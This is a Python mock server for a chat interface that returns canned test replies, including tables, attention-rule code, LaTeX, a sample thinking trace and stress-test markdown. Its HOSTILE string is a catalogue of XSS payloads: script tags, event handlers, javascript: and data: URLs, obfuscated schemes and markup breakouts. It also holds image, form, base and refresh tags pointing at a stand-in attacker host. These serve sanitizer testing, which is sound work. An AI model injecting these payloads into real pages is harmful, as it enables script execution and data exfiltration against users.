"""What the mock server's model says."""
import re

TABLE = """The cache by context, for one sequence:

| tokens | hybrid | full attention | times smaller |
|-------:|-------:|---------------:|--------------:|
| 1,024  | 1.4 MiB | 4 MiB | 2.8 |
| 4,096  | 4.4 MiB | 16 MiB | 3.6 |
| 65,536 | 64 MiB | 256 MiB | **4.0** |

Two layers of eight keep a row for each token; the others keep a state of fixed size.
"""

CODE = """A state is written along `k` and read along `q`:

```python
import torch

def delta_rule(q, k, v, beta, g):
    # one head: the state holds what was written along k
    state = torch.zeros(k.shape[-1], v.shape[-1])
    out = []
    for t in range(q.shape[0]):
        state = state * g[t].exp()
        u = v[t] - k[t] @ state
        state = state + beta[t] * torch.outer(k[t], u)
        out.append(q[t] @ state)
    return torch.stack(out)
```

1. The state decays.
2. What it predicts for `k` is taken off the value.
3. The rest is written.
"""

MATHS = r"""The state of a head is a matrix $S_t \in \mathbb{R}^{d_k \times d_v}$, and

$$S_t = \alpha_t \left(I - \beta_t k_t k_t^\top\right) S_{t-1} + \beta_t k_t v_t^\top, \qquad o_t = S_t^\top q_t$$

so a step costs \(O(d_k d_v)\), whatever the context. A price of $5 and one of $7 are no maths.

\[\sum_{i=1}^{n} i = \frac{n(n+1)}{2}\]
"""

HOSTILE = r"""<script>window.hacked = 1</script><img src=x onerror="window.hacked = 2">

<svg onload="window.hacked = 3"><a xlink:href="javascript:window.hacked=4">x</a></svg> inline <b onclick="window.hacked=5">bold</b>

[click](javascript:window.hacked=6) [data](data:text/html,<script>window.hacked=7</script>) [vb](vbscript:x)
[entity](&#106;avascript:window.hacked=8) [tab](<java	script:window.hacked=9>) <javascript:window.hacked=10>
![pixel](http://evil.invalid/leak.png?q=secret) ![js](javascript:window.hacked=11)

[good](https://example.org/a?b=c) [ref][r]

[r]: javascript:window.hacked=12

```html"><img src=x onerror=window.hacked=13>
</code></pre><script>window.hacked = 14</script>
```

`<img src=x onerror=window.hacked=15>` &lt;img src=x onerror=window.hacked=16&gt;

$\href{javascript:window.hacked=17}{x}$ $\includegraphics{http://evil.invalid/a.png}$ $\htmlData{x=y}{z}$ $\text{<img src=x onerror=window.hacked=18>}$

| <img src=x onerror=window.hacked=19> | b |
|---|---|
| <iframe src="javascript:window.hacked=20"></iframe> | <style>body { display: none }</style> |

<form action="http://evil.invalid/"><input name=a><button>go</button></form>
<base href="http://evil.invalid/"><meta http-equiv="refresh" content="0;url=http://evil.invalid/">
<link rel=stylesheet href="http://evil.invalid/a.css"><math><mtext><table><mglyph><style><img src=x onerror=window.hacked=21>
"""

THINK = "The user asks for a number. Seven is odd, and few would guess it. I could say eight, but seven is better."


def words(text):
    """As a tokenizer would cut it, roughly."""
    return re.findall(r"\s*\S{1,6}|\s+", text)


def long(n):
    out = []
    while len(out) < n:
        i = len(out)
        out += words(f"## Part {i}\n\nA paragraph with **strong** words, `code` and a sum of ${i} + 1$. "
                     "It says little and says it at some length, so that there is text to be drawn.\n\n- first\n- second\n\n"
                     "```cpp\nfor (int i = 0; i < n; ++i) sum += x[i];\n```\n\n")
    return out[:n]


def answer(text, body):
    """-> the pieces of thinking and of the answer."""
    first, _, rest = text.partition(" ")
    if first == "table":
        return [], words(TABLE)
    if first == "code":
        return [], words(CODE)
    if first == "maths":
        return [], words(MATHS)
    if first == "hostile":
        return words("<img src=x onerror=window.hacked=30> thought"), words(HOSTILE)
    if first == "think":
        return words(THINK), words("**Seven.**")
    if first == "system":
        system = [m["content"] for m in body["messages"] if m["role"] == "system"]
        return [], words("System: " + (system[0] if system else "none"))
    if first == "nested":
        return [], ["> " * 3000 + "deep\n\n", "[" * 3000 + "\n\n", "*a " * 3000 + "\n\n", "- " * 1000 + "x"]
    if first in ("long", "slow"):
        return [], long(int(rest or 200))
    return [], words("You said: " + text)
